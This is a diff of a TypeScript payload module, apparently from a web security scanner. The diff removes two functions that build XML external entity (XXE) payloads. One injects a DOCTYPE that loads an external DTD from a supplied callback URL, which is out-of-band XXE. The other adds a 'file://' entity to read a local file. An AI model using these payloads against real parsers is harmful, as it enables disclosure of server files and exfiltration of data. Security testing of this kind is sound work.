@@ -1,5 +1,4 @@
 /** Every payload of this module, as tables: a test holds each against the rules of harmless.ts. */
-import type { HttpRequest } from '../../../egress/door/egress.ts'
 
 /** Where the product of two numbers has to appear. `v` is the value that stood there. */
 export interface Reckoning {
@@ -167,27 +166,6 @@ export const CALLING_CODE: readonly CallingCode[] = [
     },
   },
 ]
-
-/** Both ways of a parser to our address: a part of the document type, and an entity in place of the value. */
-export const callingEntity =
-  (url: string) =>
-  (request: HttpRequest): HttpRequest => {
-    const body = String(request.body ?? '')
-    const declaration = /^\s*<\?xml[^>]*\?>/.exec(body)?.[0] ?? ''
-    const rest = body
-      .slice(declaration.length)
-      .replace(/<!DOCTYPE[^[>]*(?:\[[^\]]*\])?>/, '')
-      .replace(/>http[^<]*q\.php\?[^<]*</, '>&q;<')
-    const type = `<!DOCTYPE q [<!ENTITY % r SYSTEM "${url}q.dtd"><!ENTITY q SYSTEM "${url}q">%r;]>`
-    return { ...request, body: `${declaration}${type}${rest}` }
-  }
-
-/** The document with an entity that is a file, and a reference to it where the value stood. */
-export const withEntity = (body: string, path: string): string => {
-  const declaration = /^\s*<\?xml[^>]*\?>/.exec(body)?.[0] ?? ''
-  const rest = body.slice(declaration.length).replace(/<!DOCTYPE[^[>]*(?:\[[^\]]*\])?>/, '')
-  return `${declaration}<!DOCTYPE q [<!ENTITY q SYSTEM "file://${path}">]>${rest}`
-}
 
 /** Beginnings of values that are objects of a language, written out. */
 export const SERIALIZED: readonly (readonly [format: string, pattern: RegExp])[] = [
